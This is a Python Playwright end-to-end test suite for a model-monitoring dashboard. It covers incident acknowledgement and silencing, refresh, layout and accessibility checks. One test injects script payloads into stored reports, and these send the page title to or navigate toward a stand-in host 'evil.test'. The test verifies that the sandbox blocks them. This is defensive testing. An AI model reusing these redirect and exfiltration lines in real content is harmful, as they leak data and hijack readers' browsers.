"""The page as people use it, in a real browser: looked through, acknowledged, silenced; by phone, in the dark, without
a script, and by axe-core's rules of accessibility."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from monitor.store.engine import open_engine
from monitor.store.results import reports
from tests.e2e.page_data import watching
from tests.e2e.process import Daemon
from tests.e2e.stream import HOUR, START
from tests.seeds import half
from tests.servers.browser import chromium, opened

REPORT = b"<!doctype html><title>r</title><p id=ran>no<script>ran.textContent = 'a report ran'</script>"


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    with watching(tmp_path_factory.mktemp("page")) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


def to_incident(page: Page, daemon: Daemon) -> None:
    page.goto(daemon.url)
    page.get_by_role("link", name="parcels: drift").first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text("parcels: drift")


def test_from_the_overview_to_the_distribution_of_a_feature(daemon: Daemon, browser: Browser) -> None:
    with opened(browser) as page:
        page.goto(daemon.url)
        expect(page.locator("#state")).to_contain_text("firing")
        page.locator(".cards").get_by_role("link", name="parcels").click()
        expect(page.get_by_role("img", name=re.compile(r"^distance: beyond its limit in 1\d of 29"))).to_be_visible()
        expect(page.get_by_role("img", name=re.compile("^Accuracy: newest"))).to_be_visible()
        page.get_by_role("combobox", name="Feature").select_option("colour")
        page.get_by_role("button", name="Show").click()
        expect(page.get_by_role("heading", name="colour", level=2)).to_be_visible()
        picture = page.locator("svg.wk-picture")
        expect(picture).to_have_attribute("aria-label", re.compile("missing 0 → 50 %"))
        assert picture.locator("rect.wk-current").count() == 3
        page.get_by_role("link", name="window before").click()
        expect(page.get_by_role("link", name="window after")).to_be_visible()


@pytest.mark.parametrize("scripts", [True, False], ids=["script", "no-script"])
def test_an_incident_is_acknowledged_and_silenced(daemon: Daemon, browser: Browser, scripts: bool) -> None:
    who = "Ann" if scripts else "Bob"
    with opened(browser, scripts=scripts) as page:
        to_incident(page, daemon)
        page.locator("form", has_text="Acknowledge").get_by_label("Your name").fill(who)
        page.get_by_role("button", name="Acknowledge").click()
        expect(page.locator("#about")).to_contain_text(f"{who} is on it")
        form = page.locator("form", has=page.get_by_role("button", name="Silence"))
        expect(form.get_by_label("Matchers")).to_have_value("model=parcels, rule=feature-drift")
        form.get_by_label("Your name").fill(who)
        form.get_by_role("button").click()
        page.get_by_role("link", name=re.compile("silence is there already")).click()
        expect(page.get_by_role("row", name=re.compile(who)).last).to_contain_text('rule="feature-drift"')
        page.get_by_role("button", name="End the silence").click()
        expect(page.get_by_text("None is active.")).to_be_visible()


def test_a_report_opens_in_its_sandbox(daemon: Daemon, browser: Browser) -> None:
    import gzip

    engine = open_engine(f"sqlite:///{daemon.folder / 'watchkeeper.db'}")
    reports.add(
        engine, reports.StoredReport("ab-1", "parcels", "weekly", START, START + HOUR, START), gzip.compress(REPORT)
    )
    engine.dispose()
    with opened(browser) as page:
        page.goto(f"{daemon.url}/reports")
        page.get_by_role("link", name="weekly").click()
        framed = page.frame_locator("iframe")
        expect(framed.locator("#ran")).to_have_text("a report ran")
        assert page.frames[1].evaluate("origin") == "null", "nothing of ours is within reach"


@pytest.mark.parametrize(
    "script",
    ["location = 'http://evil.test/?' + document.title", "top.location = 'http://evil.test/'", "open('//evil.test')"],
)
def test_a_report_leads_its_reader_nowhere(daemon: Daemon, browser: Browser, script: str) -> None:
    import gzip

    engine = open_engine(f"sqlite:///{daemon.folder / 'watchkeeper.db'}")
    html = f"<!doctype html><title>r</title><p id=ran>no<script>ran.textContent = 'ran'; {script}</script>".encode()
    id = f"e{sum(script.encode())}"
    reports.add(engine, reports.StoredReport(id, "parcels", "weekly", START, START + HOUR, START), gzip.compress(html))
    engine.dispose()
    page = browser.new_page()
    asked: list[str] = []
    refused: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: refused.append(message.text))
    page.on("pageerror", lambda error: refused.append(str(error)))
    for address in (f"/reports/{id}", f"/reports/{id}?framed=1"):
        refused.clear()
        with page.expect_event("console" if "top" not in script else "pageerror"):
            page.goto(daemon.url + address)
        assert page.url == daemon.url + address
        assert refused, "the browser says that it was refused"
    page.close()
    assert not [url for url in asked if "evil" in url], "nothing was asked of the other place"


def test_it_stays_fresh_by_itself(daemon: Daemon, browser: Browser) -> None:
    with opened(browser) as page:
        page.clock.install()
        to_incident(page, daemon)
        page.get_by_label("Why").fill("half a sentence")
        incident = page.url.rpartition("/")[2]
        assert daemon.post(f"/api/v1/alerts/{incident}/ack", {"by": "somebody else"})[0] == 200
        page.clock.run_for(16_000)
        expect(page.locator("#about")).to_contain_text("somebody else is on it")
        expect(page.get_by_label("Why")).to_have_value("half a sentence")


@pytest.mark.parametrize(("width", "dark"), half([(1280, False), (390, False), (390, True), (1280, True)]))
def test_it_fits_and_is_accessible(daemon: Daemon, browser: Browser, width: int, dark: bool) -> None:
    with opened(browser, width=width, dark=dark) as page:
        to_incident(page, daemon)
        for path in ("/", "/models/parcels", "/incidents", page.url.removeprefix(daemon.url), "/checks", "/reports"):
            page.goto(daemon.url + path)
            assert page.evaluate("document.documentElement.scrollWidth") <= width, path
            ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
            assert ground == ("rgb(20, 23, 26)" if dark else "rgb(255, 255, 255)")
            found = Axe().run(page).response["violations"]
            grave = [one for one in found if one["impact"] in ("serious", "critical")]
            assert not grave, f"{path}: {[(one['id'], one['nodes'][0]['html']) for one in grave]}"
